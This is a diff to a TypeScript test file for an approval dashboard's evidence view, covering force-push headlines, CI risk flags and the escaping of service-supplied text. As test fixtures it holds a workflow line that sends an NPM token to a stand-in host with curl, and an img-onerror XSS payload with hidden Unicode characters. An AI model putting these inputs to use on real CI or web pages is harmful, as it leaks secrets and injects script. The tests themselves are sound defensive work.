@@ -94,10 +94,14 @@ describe('a push', () => {
             },
           },
         } as Partial<EvidenceData>,
-        { approval_type: 'pr', recommendation: { decision: 'deny', scope: null, text: 'Deny: a force push rewrites main' } },
+        {
+          approval_type: 'pr',
+          recommendation: { decision: 'deny', scope: null, text: 'Deny: a force push rewrites main' },
+          words: { headline: 'Force-push main (the default branch) to origin', summary: [], flags: [] },
+        },
       ),
     );
-    expect(text('ev-push'), 'the push, its branch and force are named').toBe('Force-push main (the default branch) to origin');
+    expect(text('ev-push'), "the push is named by the service's headline, as the notification asks it").toBe('Force-push main (the default branch) to origin');
     expect(text('ev-push-drops'), 'what the force drops is said').toBe('Force: drops 3 commits origin/main has');
     expect(text('ev-push-count'), 'the count and diffstat from the repository').toBe('2 commits not on origin/main · 2 files changed, 4 insertions(+)');
     const commits = [...root.querySelectorAll('[data-testid=ev-push-commits] li')].map((li) => li.textContent);
@@ -127,11 +131,24 @@ describe('a CI change', () => {
           flags: ['workflow_changed', 'ci_privileged_trigger', 'ci_checks_out_pr_head', 'ci_write_permissions', 'ci_secret_sent_out'],
           lines_added: 4, lines_removed: 1, diff: '+      - run: curl -d "t=${{ secrets.NPM_TOKEN }}" https://x.example\n', diff_truncated: false, notes: [],
         } as Partial<EvidenceData>,
-        { approval_type: 'diff' },
+        {
+          approval_type: 'diff',
+          words: {
+            headline: 'Accept the change to .github/workflows/release.yml',
+            summary: [],
+            flags: [
+              'CI workflow changed',
+              "Runs forks' code with secrets (pull_request_target)",
+              "Checks out the PR's code",
+              'Write permissions',
+              'Sends a secret to a host',
+            ],
+          },
+        },
       ),
     );
     const flags = [...root.querySelectorAll('[data-testid=ev-flags] .chip')].map((c) => c.textContent);
-    expect(flags, 'each risk is named').toEqual([
+    expect(flags, "each risk is named in the service's words").toEqual([
       'CI workflow changed',
       "Runs forks' code with secrets (pull_request_target)",
       "Checks out the PR's code",
@@ -139,6 +156,42 @@ describe('a CI change', () => {
       'Sends a secret to a host',
     ]);
     expect(text('ev-diff-text'), 'the diff shown keeps the secret reference as written').toContain('${{ secrets.NPM_TOKEN }}');
+  });
+});
+
+describe("the service's words", () => {
+  const hostile = '<img src=x onerror="alert(1)">\u202eevil';
+  const huge = 'x'.repeat(100_000);
+
+  it('are shown as text: markup stays text, hidden characters are shown, a huge line is kept whole', async () => {
+    await show(
+      approval(
+        {
+          type: 'pr', summary: 'Push x', remote: 'origin', branch: 'x', diff_approvals: [],
+          push: { force: false, to_default_branch: false, unknown: 'not through a gate' },
+        } as Partial<EvidenceData>,
+        { approval_type: 'pr', words: { headline: `${hostile} ${huge}`, summary: [], flags: [] } },
+      ),
+    );
+    expect(root.querySelector('img'), 'markup in the words makes no element').toBeNull();
+    expect(text('ev-push'), 'the headline as the wire says it, the bidi override shown as an escape').toBe(
+      `<img src=x onerror="alert(1)">\\u{202e}evil ${huge}`,
+    );
+  });
+
+  it('name each flag, and a flag the words miss by its code', async () => {
+    await show(
+      approval(
+        {
+          type: 'diff', summary: 'Review diff · shop', files: [], flags: ['workflow_changed', 'wide'],
+          lines_added: 0, lines_removed: 0, diff: '', diff_truncated: false, notes: [],
+        } as Partial<EvidenceData>,
+        { approval_type: 'diff', words: { headline: 'Accept a change', summary: [], flags: ['<b>CI</b>\u200b'] } },
+      ),
+    );
+    expect(root.querySelector('[data-testid=ev-flags] b'), 'no markup from the wire').toBeNull();
+    const flags = [...root.querySelectorAll('[data-testid=ev-flags] .chip')].map((c) => c.textContent);
+    expect(flags, "the wire's word, its zero-width space shown; the missing one by its code").toEqual(['<b>CI</b>\\u{200b}', 'wide']);
   });
 });
 
